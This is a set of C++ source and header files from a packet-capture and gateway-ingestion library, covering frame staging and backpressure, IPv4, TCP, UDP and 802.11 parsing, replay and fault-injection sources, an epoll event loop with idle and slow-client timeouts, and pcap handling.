  if (reason == CloseReason::kPeerClosed && st.hello_done && !st.report.fin) {
    st.report.fin = true;
    ++streams_finished_;
  }
  // Frames decoded but never delivered: hand them to the orphan queue so
  // the feed still receives every frame the wire carried.
  while (!st.staged.empty()) {
    orphaned_.push_back(std::move(st.staged.front()));
    st.staged.pop_front();
  }
  st.report.close_reason = reason;
  reports_.push_back(st.report);
}

bool GatewayFrontend::flush_staged() {
  if (feed_ == nullptr) return false;
  // Orphaned frames (their connection already closed) go first.
  while (!orphaned_.empty()) {
    const FeedStatus s = feed_->offer(orphaned_.front());
    if (s == FeedStatus::kBusy) return true;
    if (s == FeedStatus::kClosed) {
      feed_closed_ = true;
      return false;
    }
    orphaned_.pop_front();
    --staged_total_;
  }
  std::vector<uint64_t> ids;
  ids.reserve(conns_.size() + 1);
  for (const auto& [id, st] : conns_)
    if (!st.staged.empty()) ids.push_back(id);
  const bool udp_pending = !udp_state_.staged.empty();
  for (uint64_t id : ids) {
    auto it = conns_.find(id);
    if (it == conns_.end()) continue;
    ConnState& st = it->second;
    while (!st.staged.empty()) {
      const FeedStatus s = feed_->offer(st.staged.front());
      if (s == FeedStatus::kBusy) return true;
      if (s == FeedStatus::kClosed) {
        feed_closed_ = true;
        return false;
      }
      st.staged.pop_front();
      --staged_total_;
    }
    // Staging drained: reopen the tap. resume() may re-enter on_data and
    // restage; that is fine — order is preserved through the deque.
    loop_.resume(id);
  }
  if (udp_pending) {
    while (!udp_state_.staged.empty()) {
      const FeedStatus s = feed_->offer(udp_state_.staged.front());
      if (s == FeedStatus::kBusy) return true;
      if (s == FeedStatus::kClosed) {
        feed_closed_ = true;
        return false;
      }
      udp_state_.staged.pop_front();
      --staged_total_;
    }
  }
  staged_depth_->set(static_cast<double>(staged_total_));
  return true;
}

bool GatewayFrontend::stream_goal_met() const {
  return streams_finished_ >= opts_.min_streams;
}

Result<void> GatewayFrontend::drive(FrameFeed& feed,
                                    const std::atomic<bool>& stop) {
  auto bound = bind();
  if (!bound.ok()) return bound.error();
  feed_ = &feed;
  feed_closed_ = false;
  telemetry::Span drive_span(registry_, opts_.instrument_prefix + "drive");
  bool draining = false;
  double drain_deadline = 0;
  for (;;) {
    if (!draining && (stop.load(std::memory_order_relaxed) ||
                      (opts_.stop_when_drained && stream_goal_met()))) {
      // Graceful shutdown: no new connections; established ones finish.
      loop_.shutdown(/*abort_connections=*/false);
      draining = true;
      drain_deadline = mono_now() + opts_.drain_grace;
    }
    // While frames are staged (backpressure in effect) poll with a 1 ms
    // cap: the bottleneck is the feed, not the sockets, and every cycle is
    // a flush opportunity. Idle, block up to poll_interval_ms.
    auto polled = loop_.poll_once(staged_total_ != 0 ? 1 : -1);
    if (!polled.ok()) {
      loop_.shutdown(true);
      feed_ = nullptr;
      return polled.error();
    }
    {
      telemetry::Span flush_span(registry_,
                                 opts_.instrument_prefix + "flush");
      flush_span.set_value(staged_total_);
      flush_staged();
    }
    if (feed_closed_) {
      loop_.shutdown(/*abort_connections=*/true);
      break;
    }
    if (draining) {
      if (loop_.drained() && staged_total_ == 0) break;
      if (mono_now() > drain_deadline) {
        loop_.shutdown(/*abort_connections=*/true);
        // One last flush so aborted connections' orphans reach the feed.
        flush_staged();
        break;
      }
    }
  }
  // Aborted teardown can leave frames the feed never took; account them
  // as shed so the wire-level counts still reconcile exactly.
  if (staged_total_ != 0 && !feed_closed_) flush_staged();
  const uint64_t leftover = orphaned_.size() + udp_state_.staged.size();
  if (leftover != 0) {
    shed_->add(leftover);
    if (!feed_closed_) feed_->account_shed(leftover);
    orphaned_.clear();
    udp_state_.staged.clear();
    staged_total_ = 0;
  }
  if (udp_state_.report.frames != 0 || udp_fins_ != 0) {
    udp_state_.report.close_reason = CloseReason::kShutdown;
    udp_state_.report.fin = udp_fins_ != 0;
    reports_.push_back(udp_state_.report);
  }
  feed_ = nullptr;
  return {};
}

}  // namespace lumen::netio
