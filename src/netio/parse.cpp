#include "netio/parse.h"

#include <algorithm>

namespace lumen::netio {

namespace {

constexpr uint16_t kEtherIpv4 = 0x0800;
constexpr uint16_t kEtherArp = 0x0806;

AppProto port_service(uint16_t port) {
  switch (port) {
    case 53: return AppProto::kDns;
    case 80:
    case 8080: return AppProto::kHttp;
    case 443:
    case 8883: return AppProto::kHttps;
    case 1883: return AppProto::kMqtt;
    case 123: return AppProto::kNtp;
    case 1900: return AppProto::kSsdp;
    case 23:
    case 2323: return AppProto::kTelnet;
    case 21: return AppProto::kFtp;
    case 22: return AppProto::kSsh;
    default: return AppProto::kNone;
  }
}

Result<void> parse_ipv4(const ByteReader& r, size_t off, PacketView& v,
                        const RawPacket& pkt) {
  if (!r.can_read(off, 20)) return Error::make("parse", "truncated IPv4 header");
  const uint8_t vihl = r.u8(off);
  if ((vihl >> 4) != 4) return Error::make("parse", "not IPv4");
  const size_t ihl = static_cast<size_t>(vihl & 0x0f) * 4;
  if (ihl < 20 || !r.can_read(off, ihl)) {
    return Error::make("parse", "bad IPv4 IHL");
  }
  v.has_ip = true;
  v.ip_off = static_cast<int>(off);
  v.ip_len = r.u16(off + 2);
  v.ttl = r.u8(off + 8);
  v.proto_raw = r.u8(off + 9);
  v.src_ip = r.u32(off + 12);
  v.dst_ip = r.u32(off + 16);
  switch (v.proto_raw) {
    case 1: v.proto = IpProto::kIcmp; break;
    case 6: v.proto = IpProto::kTcp; break;
    case 17: v.proto = IpProto::kUdp; break;
    default: v.proto = IpProto::kOther; break;
  }

  const size_t l4 = off + ihl;
  // Trust the smaller of capture length and the IP total-length field.
  const size_t ip_end = std::min<size_t>(r.size(), off + v.ip_len);
  if (v.proto == IpProto::kTcp) {
    if (!r.can_read(l4, 20)) return Error::make("parse", "truncated TCP");
    v.l4_off = static_cast<int>(l4);
    v.src_port = r.u16(l4);
    v.dst_port = r.u16(l4 + 2);
    v.tcp_seq = r.u32(l4 + 4);
    v.tcp_ack = r.u32(l4 + 8);
    const size_t doff = static_cast<size_t>(r.u8(l4 + 12) >> 4) * 4;
    if (doff < 20 || !r.can_read(l4, doff)) {
      return Error::make("parse", "bad TCP data offset");
    }
    v.tcp_flags = r.u8(l4 + 13);
    v.tcp_window = r.u16(l4 + 14);
    const size_t pay = l4 + doff;
    if (pay <= ip_end) {
      v.payload_off = static_cast<int>(pay);
      v.payload_len = static_cast<uint16_t>(ip_end - pay);
    }
  } else if (v.proto == IpProto::kUdp) {
    if (!r.can_read(l4, 8)) return Error::make("parse", "truncated UDP");
    v.l4_off = static_cast<int>(l4);
    v.src_port = r.u16(l4);
    v.dst_port = r.u16(l4 + 2);
    const size_t pay = l4 + 8;
    if (pay <= ip_end) {
      v.payload_off = static_cast<int>(pay);
      v.payload_len = static_cast<uint16_t>(ip_end - pay);
    }
  } else if (v.proto == IpProto::kIcmp) {
    if (!r.can_read(l4, 8)) return Error::make("parse", "truncated ICMP");
    v.l4_off = static_cast<int>(l4);
    v.icmp_type = r.u8(l4);
    const size_t pay = l4 + 8;
    if (pay <= ip_end) {
      v.payload_off = static_cast<int>(pay);
      v.payload_len = static_cast<uint16_t>(ip_end - pay);
    }
  }

  if (v.payload_off >= 0 && v.payload_len > 0) {
    v.app = infer_app_proto(
        v.src_port, v.dst_port, v.proto,
        std::span<const uint8_t>(pkt.data.data() + v.payload_off,
                                 v.payload_len));
  } else {
    v.app = infer_app_proto(v.src_port, v.dst_port, v.proto, {});
  }
  return {};
}

Result<void> parse_ethernet(const ByteReader& r, PacketView& v,
                            const RawPacket& pkt) {
  if (!r.can_read(0, 14)) return Error::make("parse", "truncated Ethernet");
  for (int i = 0; i < 6; ++i) v.dst_mac[i] = r.u8(i);
  for (int i = 0; i < 6; ++i) v.src_mac[i] = r.u8(6 + i);
  v.ether_type = r.u16(12);
  if (v.ether_type == kEtherIpv4) return parse_ipv4(r, 14, v, pkt);
  if (v.ether_type == kEtherArp) return Result<void>{};  // L2-only view
  return Result<void>{};  // unknown ethertype: keep the L2 view
}

Result<void> parse_dot11(const ByteReader& r, PacketView& v) {
  if (!r.can_read(0, 24)) return Error::make("parse", "truncated 802.11");
  const uint16_t fc = r.u16le(0);
  v.is_dot11 = true;
  v.dot11_type = static_cast<Dot11Type>((fc >> 2) & 0x3);
  v.dot11_subtype = static_cast<uint8_t>((fc >> 4) & 0xf);
  // Address layout for the to-DS/from-DS = 0 case we generate:
  // addr1 = dst, addr2 = src, addr3 = bssid.
  for (int i = 0; i < 6; ++i) v.dst_mac[i] = r.u8(4 + i);
  for (int i = 0; i < 6; ++i) v.src_mac[i] = r.u8(10 + i);
  return {};
}

}  // namespace

const char* app_proto_name(AppProto p) {
  switch (p) {
    case AppProto::kNone: return "-";
    case AppProto::kDns: return "dns";
    case AppProto::kHttp: return "http";
    case AppProto::kHttps: return "tls";
    case AppProto::kMqtt: return "mqtt";
    case AppProto::kNtp: return "ntp";
    case AppProto::kSsdp: return "ssdp";
    case AppProto::kTelnet: return "telnet";
    case AppProto::kFtp: return "ftp";
    case AppProto::kSsh: return "ssh";
  }
  return "?";
}

AppProto infer_app_proto(uint16_t src_port, uint16_t dst_port, IpProto proto,
                         std::span<const uint8_t> payload) {
  AppProto byport = port_service(dst_port);
  if (byport == AppProto::kNone) byport = port_service(src_port);
  if (byport != AppProto::kNone) return byport;
  // Payload sniffing as a fallback (HTTP verbs, SSDP).
  if (payload.size() >= 4) {
    const char* c = reinterpret_cast<const char*>(payload.data());
    if (std::equal(c, c + 4, "GET ") || std::equal(c, c + 4, "POST") ||
        std::equal(c, c + 4, "HTTP")) {
      return AppProto::kHttp;
    }
    if (std::equal(c, c + 4, "M-SE")) return AppProto::kSsdp;
  }
  (void)proto;
  return AppProto::kNone;
}

Result<PacketView> parse_packet(const RawPacket& pkt, LinkType link,
                                uint32_t index) {
  PacketView v;
  v.ts = pkt.ts;
  v.index = index;
  v.link = link;
  v.wire_len = pkt.wire_len();
  ByteReader r(pkt.data);
  Result<void> st = (link == LinkType::kIeee80211) ? parse_dot11(r, v)
                                                   : parse_ethernet(r, v, pkt);
  if (!st.ok()) return st.error();
  return v;
}

size_t parse_trace(Trace& trace) {
  trace.view.clear();
  trace.view.reserve(trace.raw.size());
  const size_t total = trace.raw.size();
  // Single pass: parse each frame once, compacting the kept raws in place so
  // raw and view stay position-aligned. Each PacketView keeps its index in
  // the ORIGINAL capture (view[k].index >= k), which is what per-packet
  // label arrays are aligned with.
  size_t kept = 0;
  for (uint32_t i = 0; i < total; ++i) {
    auto res = parse_packet(trace.raw[i], trace.link, i);
    if (!res.ok()) continue;
    trace.view.push_back(std::move(res).value());
    if (kept != i) trace.raw[kept] = std::move(trace.raw[i]);
    ++kept;
  }
  trace.raw.resize(kept);
  return total - kept;
}

}  // namespace lumen::netio
