// Packet sources for the gateway ingestion runtime: a uniform pull
// interface over "where packets come from", decoupling capture from
// detection (core/ingest.h). Shipped sources:
//
//   * TraceReplaySource — replays an in-memory Trace (e.g. a loaded pcap or
//     a synthetic trace::Dataset capture), optionally paced against the
//     capture's own inter-arrival gaps as a live gateway would see them.
//   * PcapReplaySource — owns a capture read from disk and replays it.
//   * FaultInjectingSource — wraps another source and deterministically
//     truncates, corrupts, or reorders packets, for hardening the
//     parse/score path against hostile or damaged captures.
#pragma once

#include <chrono>
#include <memory>
#include <optional>
#include <string>

#include "common/result.h"
#include "common/rng.h"
#include "netio/packet.h"

namespace lumen::netio {

/// One packet pulled from a source: the raw frame plus its index in the
/// original capture (what Dataset labels are aligned with).
struct SourcePacket {
  RawPacket pkt;
  uint32_t capture_index = 0;
  /// Tenant the packet belongs to (0 = default tenant). Socket streams set
  /// this from their authenticated hello; replay sources leave it 0 unless
  /// a ReplayDriver is constructed with an explicit tenant.
  uint32_t tenant = 0;
};

/// Pull-based packet producer. Implementations are single-threaded: the
/// ingestion runtime drives one source from one producer thread.
class PacketSource {
 public:
  virtual ~PacketSource() = default;

  /// Pull the next packet into `out`. Returns false at end of stream.
  virtual bool next(SourcePacket& out) = 0;

  /// Link type of the frames this source emits.
  virtual LinkType link() const = 0;

  /// Rewind to the beginning of the stream. Returns false when the source
  /// cannot be replayed.
  virtual bool reset() { return false; }
};

/// Pacing options for replay sources. Pacing sleeps between packets to
/// reproduce the capture's inter-arrival gaps (divided by `speed`), so the
/// runtime sees a live-like arrival process; `max_sleep` bounds any single
/// gap so pathological captures cannot stall a replay.
struct ReplayOptions {
  bool pace = false;
  double speed = 1.0;        // replay speed multiplier (2 = twice as fast)
  double max_sleep = 0.050;  // seconds; cap on any single inter-packet sleep
  size_t begin = 0;          // first raw-packet position to replay
  size_t end = SIZE_MAX;     // one past the last position (clamped to size)
};

/// Replays the raw packets of a Trace the caller keeps alive. When the
/// trace has parsed views, each packet carries its original capture index
/// (so labels survive earlier parse skips); otherwise the raw position.
class TraceReplaySource : public PacketSource {
 public:
  explicit TraceReplaySource(const Trace& trace, ReplayOptions opts = {});

  bool next(SourcePacket& out) override;
  LinkType link() const override { return trace_->link; }
  bool reset() override;

 private:
  const Trace* trace_;
  ReplayOptions opts_;
  size_t pos_ = 0;
  // Pacing baseline: wall clock at the first packet and its capture time.
  // Each later packet is released at wall0_ + (ts - ts0_) / speed.
  std::chrono::steady_clock::time_point wall0_;
  double ts0_ = 0.0;
  bool started_ = false;
};

/// Reads a classic pcap savefile and replays it.
class PcapReplaySource : public PacketSource {
 public:
  static Result<std::unique_ptr<PcapReplaySource>> open(
      const std::string& path, ReplayOptions opts = {});

  bool next(SourcePacket& out) override { return replay_.next(out); }
  LinkType link() const override { return trace_.link; }
  bool reset() override { return replay_.reset(); }

  const Trace& trace() const { return trace_; }

 private:
  PcapReplaySource(Trace trace, ReplayOptions opts);

  Trace trace_;
  TraceReplaySource replay_;
};

/// Fault model for FaultInjectingSource. Probabilities are per packet and
/// independent; the random stream is derived only from `seed`, so a given
/// (source, options) pair always produces the same faulted stream.
struct FaultOptions {
  double truncate_p = 0.0;  // chop the frame to a random prefix
  double corrupt_p = 0.0;   // flip a few random bytes in place
  double reorder_p = 0.0;   // swap delivery order with the next packet
  uint64_t seed = 1;
};

/// Wraps another source and injects transport-level damage. Truncation and
/// corruption exercise the parser's bounds checks; reordering exercises the
/// runtime's tolerance for non-monotonic timestamps.
class FaultInjectingSource : public PacketSource {
 public:
  FaultInjectingSource(PacketSource& inner, FaultOptions opts);

  bool next(SourcePacket& out) override;
  LinkType link() const override { return inner_->link(); }
  bool reset() override;

 private:
  void inject(SourcePacket& sp);

  PacketSource* inner_;
  FaultOptions opts_;
  Rng rng_;
  std::optional<SourcePacket> held_;  // delayed packet during a reorder
};

/// Options for LoopingSource. With period = 0 the shift between loops is
/// derived from the inner stream on the first wrap: its timestamp span plus
/// the mean inter-packet gap (so loop k+1's first packet follows loop k's
/// last by a typical gap instead of colliding with it).
struct LoopOptions {
  size_t loops = 2;     // total passes over the inner source (>= 1)
  double period = 0.0;  // seconds added to ts per loop; 0 = derive from span
};

/// Replays a resettable inner source `loops` times, shifting capture
/// timestamps forward by one period per pass so the stream looks like a
/// longer continuous capture — the soak harness for bounded-memory checks
/// on streaming chains (state must stop growing once the loop's group
/// population has been seen). Capture indices repeat across passes
/// unchanged, like a traffic generator replaying the same flows.
class LoopingSource : public PacketSource {
 public:
  LoopingSource(PacketSource& inner, LoopOptions opts);

  bool next(SourcePacket& out) override;
  LinkType link() const override { return inner_->link(); }
  bool reset() override;

 private:
  PacketSource* inner_;
  LoopOptions opts_;
  size_t loop_ = 0;
  double shift_ = 0.0;
  double period_ = 0.0;  // resolved on the first wrap when opts_.period == 0
  // First-pass observations for deriving the period.
  double first_ts_ = 0.0;
  double last_ts_ = 0.0;
  uint64_t seen_ = 0;
};

}  // namespace lumen::netio
