// Byte-buffer helpers: big-endian reads/writes over std::vector<uint8_t>.
#pragma once

#include <cstdint>
#include <cstring>
#include <span>
#include <string>
#include <vector>

namespace lumen::netio {

using Bytes = std::vector<uint8_t>;

/// Append big-endian integers / raw bytes to a growing buffer.
class ByteWriter {
 public:
  explicit ByteWriter(Bytes& out) : out_(out) {}

  void u8(uint8_t v) { out_.push_back(v); }
  void u16(uint16_t v) {
    out_.push_back(static_cast<uint8_t>(v >> 8));
    out_.push_back(static_cast<uint8_t>(v));
  }
  void u32(uint32_t v) {
    out_.push_back(static_cast<uint8_t>(v >> 24));
    out_.push_back(static_cast<uint8_t>(v >> 16));
    out_.push_back(static_cast<uint8_t>(v >> 8));
    out_.push_back(static_cast<uint8_t>(v));
  }
  void u16le(uint16_t v) {
    out_.push_back(static_cast<uint8_t>(v));
    out_.push_back(static_cast<uint8_t>(v >> 8));
  }
  void raw(std::span<const uint8_t> data) {
    out_.insert(out_.end(), data.begin(), data.end());
  }
  void raw(const std::string& s) {
    out_.insert(out_.end(), s.begin(), s.end());
  }
  void zeros(size_t n) { out_.insert(out_.end(), n, 0); }

  size_t size() const { return out_.size(); }

  /// Patch a previously written big-endian u16 at `offset`.
  void patch_u16(size_t offset, uint16_t v) {
    out_[offset] = static_cast<uint8_t>(v >> 8);
    out_[offset + 1] = static_cast<uint8_t>(v);
  }

 private:
  Bytes& out_;
};

/// Bounds-checked big-endian reads over a fixed buffer.
class ByteReader {
 public:
  explicit ByteReader(std::span<const uint8_t> data) : data_(data) {}

  bool can_read(size_t at, size_t n) const { return at + n <= data_.size(); }
  size_t size() const { return data_.size(); }

  uint8_t u8(size_t at) const { return data_[at]; }
  uint16_t u16(size_t at) const {
    return static_cast<uint16_t>((data_[at] << 8) | data_[at + 1]);
  }
  uint32_t u32(size_t at) const {
    return (static_cast<uint32_t>(data_[at]) << 24) |
           (static_cast<uint32_t>(data_[at + 1]) << 16) |
           (static_cast<uint32_t>(data_[at + 2]) << 8) |
           static_cast<uint32_t>(data_[at + 3]);
  }
  uint16_t u16le(size_t at) const {
    return static_cast<uint16_t>(data_[at] | (data_[at + 1] << 8));
  }
  std::span<const uint8_t> slice(size_t at, size_t n) const {
    return data_.subspan(at, n);
  }

 private:
  std::span<const uint8_t> data_;
};

/// RFC 1071 internet checksum over `data`, with an optional initial sum
/// (used for pseudo-header folding).
uint16_t internet_checksum(std::span<const uint8_t> data, uint32_t initial = 0);

/// Dotted-quad rendering of a host-order IPv4 address.
std::string ipv4_to_string(uint32_t ip);

/// Parse "a.b.c.d" into a host-order IPv4 address. Returns 0 on failure.
uint32_t ipv4_from_string(const std::string& s);

}  // namespace lumen::netio
