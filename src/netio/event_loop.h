// Nonblocking socket engine for the gateway front-end: one epoll instance
// owning every listener, TCP connection, and UDP socket, dispatched from a
// single thread (the ingest producer thread drives it, so packets flow into
// the runtime's conduits without a hand-off hop).
//
// Design points, in the order they bite in production:
//   - accept4(SOCK_NONBLOCK) in a drain loop: a burst of connections on one
//     readiness event must all be accepted before returning to epoll_wait,
//     or edge-triggered mode strands the remainder.
//   - Edge-triggered reads by default (one wakeup per burst), with a
//     level-triggered fallback (`edge_triggered = false`) for debugging and
//     for platforms where ET semantics are suspect. In ET mode every read
//     drains to EAGAIN; a paused connection (backpressure) drops EPOLLIN
//     from its interest set, and resume() must re-attempt a read directly
//     because the edge that announced those bytes has already fired.
//   - Low-and-slow defense in the style of slowloris mitigations: clients
//     that hold a connection while dribbling bytes below a configurable
//     rate floor are closed (kSlowClient), and wholly idle connections are
//     closed after idle_timeout (kIdleTimeout). Both sweeps run on the
//     poll tick, so the loop never needs per-connection timers.
//   - Graceful drain: shutdown() closes the listeners but lets established
//     connections finish; drained() reports when the fd table is empty.
//     Every fd the loop ever opened is closed by close time — teardown
//     paths all funnel through one close_locked().
//
// The loop is transport-only: it hands byte ranges to a Protocol callback
// and never interprets framing. The gateway front-end (frontend.h) layers
// the record format, tenant auth, and feed backpressure on top.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>

#include "common/result.h"

namespace lumen::netio {

/// Why a connection was closed; reported to Protocol::on_close and counted
/// by the front-end's telemetry.
enum class CloseReason : uint8_t {
  kPeerClosed = 0,   // orderly EOF from the peer
  kProtocolError,    // the protocol layer rejected the stream
  kIdleTimeout,      // no bytes for longer than idle_timeout
  kSlowClient,       // low-and-slow: sustained rate below min_bytes_per_sec
  kShutdown,         // loop torn down with connections still open
  kSocketError,      // read failed or the peer reset
};

const char* close_reason_name(CloseReason r);

class EventLoop {
 public:
  struct Options {
    /// Edge-triggered reads (one wakeup per burst). false = level-triggered
    /// fallback: simpler semantics, more wakeups under load.
    bool edge_triggered = true;
    /// Close a connection after this many seconds without any bytes.
    /// 0 disables the idle sweep.
    double idle_timeout = 30.0;
    /// Low-and-slow floor: a connection older than one rate window whose
    /// average rate over the last window fell below this is closed.
    /// 0 disables the rate sweep.
    double min_bytes_per_sec = 0.0;
    /// Length of the rate-measurement window in seconds. The first window
    /// doubles as the grace period before enforcement starts.
    double rate_window = 5.0;
    /// Per-read buffer size; ET mode loops this until EAGAIN.
    size_t read_chunk = 64 * 1024;
    /// Cap on bytes buffered for one connection awaiting protocol consume
    /// (a frame bigger than this can never complete -> kProtocolError).
    size_t max_conn_buffer = 1 << 20;
    /// epoll_wait timeout: bounds the latency of timeout sweeps and
    /// on_tick callbacks when no socket activity arrives.
    int poll_interval_ms = 20;

    static Options normalized(Options opts, std::string* diagnostic);
  };

  /// The framing/auth layer the loop reports to. All callbacks fire on the
  /// thread running poll_once(); ids are loop-scoped and never reused.
  class Protocol {
   public:
    virtual ~Protocol() = default;
    /// New TCP connection accepted. Return false to refuse (closed
    /// immediately with kProtocolError, on_close still delivered).
    virtual bool on_open(uint64_t conn, const std::string& peer) {
      (void)conn;
      (void)peer;
      return true;
    }
    /// Buffered stream bytes for `conn`. Return how many bytes were
    /// consumed from the front; the remainder is kept and re-presented
    /// once more bytes arrive. Return kAbort to kill the connection.
    virtual size_t on_data(uint64_t conn, const uint8_t* data, size_t n) = 0;
    /// One UDP datagram on socket `sock` (id from open_udp).
    virtual void on_datagram(uint64_t sock, const uint8_t* data, size_t n) {
      (void)sock;
      (void)data;
      (void)n;
    }
    virtual void on_close(uint64_t conn, CloseReason reason) {
      (void)conn;
      (void)reason;
    }
  };
  static constexpr size_t kAbort = static_cast<size_t>(-1);

  EventLoop(Options opts, Protocol& protocol);
  ~EventLoop();
  EventLoop(const EventLoop&) = delete;
  EventLoop& operator=(const EventLoop&) = delete;

  /// Create the epoll instance. Must succeed before listen/open/poll.
  Result<void> init();

  /// Bind + listen on addr:port (port 0 = ephemeral); returns the listener
  /// id. The bound port is recoverable via port_of().
  Result<uint64_t> listen_tcp(const std::string& addr, uint16_t port);

  /// Bind a UDP socket; datagrams arrive via Protocol::on_datagram.
  Result<uint64_t> open_udp(const std::string& addr, uint16_t port,
                            size_t rcvbuf_bytes = 0);

  /// Bound port of a listener/UDP id (0 if unknown).
  uint16_t port_of(uint64_t id) const;

  /// Backpressure: stop reading `conn` (drops EPOLLIN). The kernel socket
  /// buffer then fills and TCP flow control pushes back on the client.
  void pause(uint64_t conn);
  /// Re-arm reads and immediately drain anything that arrived while
  /// paused (required for ET correctness).
  void resume(uint64_t conn);

  void close_conn(uint64_t conn, CloseReason reason);

  /// Run one wait/dispatch/sweep cycle (blocks at most poll_interval_ms,
  /// or `timeout_ms` when >= 0 — pass 0 for a non-blocking poll while the
  /// caller has its own pending work to get back to). Safe to call after
  /// shutdown() to drain remaining connections.
  Result<void> poll_once(int timeout_ms = -1);

  /// Graceful drain: close listeners (and UDP sockets) so no new traffic
  /// arrives; established connections keep draining via poll_once().
  /// abort_connections = true also closes every open connection now.
  void shutdown(bool abort_connections);

  /// True once shutdown() ran and no connections remain.
  bool drained() const;

  size_t open_connections() const { return open_conns_; }
  uint64_t accepted_total() const { return accepted_total_; }
  uint64_t idle_closed_total() const { return idle_closed_total_; }
  uint64_t slow_closed_total() const { return slow_closed_total_; }
  uint64_t bytes_read_total() const { return bytes_read_total_; }

  /// Number of fds the loop currently owns (epoll + listeners + conns);
  /// 0 after teardown — the fd-hygiene tests assert through this.
  size_t owned_fds() const;

 private:
  struct Entry;

  Result<uint64_t> add_socket(int fd, bool listener, bool udp, uint16_t port);
  void handle_accept(Entry& listener);
  void handle_readable(uint64_t id);
  void read_stream(Entry& conn);
  void read_datagrams(Entry& sock);
  void deliver(Entry& conn);
  void sweep_timeouts(double now);
  void close_entry(uint64_t id, CloseReason reason);

  Options opts_;
  Protocol& protocol_;
  int epoll_fd_ = -1;
  uint64_t next_id_ = 1;
  // Flat id -> entry table; ids are dense enough that a vector of
  // (id, entry) with linear scan would also do, but a map keeps erase O(1)
  // and the fd counts here are small (one gateway, tens of connections).
  struct Impl;
  Impl* impl_;  // owns the entry map (keeps <unordered_map> out of the API)
  bool shutdown_ = false;
  size_t open_conns_ = 0;
  uint64_t accepted_total_ = 0;
  uint64_t idle_closed_total_ = 0;
  uint64_t slow_closed_total_ = 0;
  uint64_t bytes_read_total_ = 0;
};

}  // namespace lumen::netio
