// Core packet types: raw captured bytes plus the parsed PacketView summary
// that Lumen operations consume. A Trace is an ordered capture of packets.
#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <vector>

#include "netio/bytes.h"

namespace lumen::netio {

/// pcap link types we generate and parse.
enum class LinkType : uint32_t {
  kEthernet = 1,     // DLT_EN10MB
  kIeee80211 = 105,  // DLT_IEEE802_11
};

/// IP protocol numbers we care about.
enum class IpProto : uint8_t {
  kOther = 0,
  kIcmp = 1,
  kTcp = 6,
  kUdp = 17,
};

/// Application protocol inferred from ports/payload (Zeek-style "service").
enum class AppProto : uint8_t {
  kNone = 0,
  kDns,
  kHttp,
  kHttps,
  kMqtt,
  kNtp,
  kSsdp,
  kTelnet,
  kFtp,
  kSsh,
};

const char* app_proto_name(AppProto p);

/// TCP flag bits (matching the TCP header byte).
enum TcpFlag : uint8_t {
  kFin = 0x01,
  kSyn = 0x02,
  kRst = 0x04,
  kPsh = 0x08,
  kAck = 0x10,
  kUrg = 0x20,
};

using MacAddr = std::array<uint8_t, 6>;

/// 802.11 frame types (from the frame-control field).
enum class Dot11Type : uint8_t { kManagement = 0, kControl = 1, kData = 2 };

/// A captured packet exactly as it would sit in a pcap record.
struct RawPacket {
  double ts = 0.0;        // seconds since epoch (fractional)
  Bytes data;             // frame bytes starting at the link layer
  uint32_t orig_len = 0;  // wire length before snaplen truncation; 0 means
                          // the frame was captured whole (== data.size())

  uint32_t wire_len() const {
    return orig_len != 0 ? orig_len : static_cast<uint32_t>(data.size());
  }
};

/// Parsed single-pass summary of a RawPacket. Field-extraction operations
/// read from here; nPrint-style bit features go back to the raw bytes via
/// the recorded offsets.
struct PacketView {
  double ts = 0.0;
  uint32_t index = 0;  // position within the ORIGINAL capture, before any
                       // malformed frames were skipped; Dataset labels are
                       // aligned with this, not with the view position
  uint32_t wire_len = 0;  // on-the-wire length (orig_len for truncated frames)
  LinkType link = LinkType::kEthernet;

  // Link layer
  MacAddr src_mac{};
  MacAddr dst_mac{};
  uint16_t ether_type = 0;  // 0x0800 IPv4, 0x0806 ARP; 0 for raw 802.11

  // 802.11 (only when link == kIeee80211)
  bool is_dot11 = false;
  Dot11Type dot11_type = Dot11Type::kData;
  uint8_t dot11_subtype = 0;

  // Network layer
  bool has_ip = false;
  uint32_t src_ip = 0;  // host byte order
  uint32_t dst_ip = 0;
  uint8_t ttl = 0;
  uint16_t ip_len = 0;     // IP total length field
  uint8_t proto_raw = 0;   // raw IP protocol number
  IpProto proto = IpProto::kOther;

  // Transport layer
  uint16_t src_port = 0;
  uint16_t dst_port = 0;
  uint8_t tcp_flags = 0;
  uint32_t tcp_seq = 0;
  uint32_t tcp_ack = 0;
  uint16_t tcp_window = 0;
  uint8_t icmp_type = 0;

  uint16_t payload_len = 0;
  AppProto app = AppProto::kNone;

  // Offsets into RawPacket::data, -1 when the layer is absent.
  int ip_off = -1;
  int l4_off = -1;
  int payload_off = -1;

  bool has_tcp() const { return has_ip && proto == IpProto::kTcp; }
  bool has_udp() const { return has_ip && proto == IpProto::kUdp; }
  bool tcp_flag(TcpFlag f) const { return (tcp_flags & f) != 0; }
};

/// An ordered packet capture. After parse_trace, `raw` and `view` have the
/// same length and are aligned position-by-position (malformed frames are
/// compacted out of both); `view[k].index` keeps each packet's index in the
/// original capture so per-packet labels stay addressable after skips.
struct Trace {
  LinkType link = LinkType::kEthernet;
  std::vector<RawPacket> raw;
  std::vector<PacketView> view;

  size_t size() const { return raw.size(); }
  bool empty() const { return raw.empty(); }
  double duration() const {
    return raw.empty() ? 0.0 : raw.back().ts - raw.front().ts;
  }
};

}  // namespace lumen::netio
