#include "netio/pcap.h"

#include <cmath>
#include <cstdio>
#include <memory>

#include "netio/parse.h"

namespace lumen::netio {

namespace {

constexpr uint32_t kMagicLe = 0xa1b2c3d4;
constexpr uint32_t kMagicBe = 0xd4c3b2a1;
constexpr uint32_t kSnapLen = 65535;

struct FileCloser {
  void operator()(std::FILE* f) const {
    if (f != nullptr) std::fclose(f);
  }
};
using FilePtr = std::unique_ptr<std::FILE, FileCloser>;

void put_u32le(uint8_t* p, uint32_t v) {
  p[0] = static_cast<uint8_t>(v);
  p[1] = static_cast<uint8_t>(v >> 8);
  p[2] = static_cast<uint8_t>(v >> 16);
  p[3] = static_cast<uint8_t>(v >> 24);
}
void put_u16le(uint8_t* p, uint16_t v) {
  p[0] = static_cast<uint8_t>(v);
  p[1] = static_cast<uint8_t>(v >> 8);
}
uint32_t get_u32(const uint8_t* p, bool swap) {
  const uint32_t v = static_cast<uint32_t>(p[0]) |
                     (static_cast<uint32_t>(p[1]) << 8) |
                     (static_cast<uint32_t>(p[2]) << 16) |
                     (static_cast<uint32_t>(p[3]) << 24);
  if (!swap) return v;
  return ((v & 0xff) << 24) | ((v & 0xff00) << 8) | ((v >> 8) & 0xff00) |
         (v >> 24);
}

}  // namespace

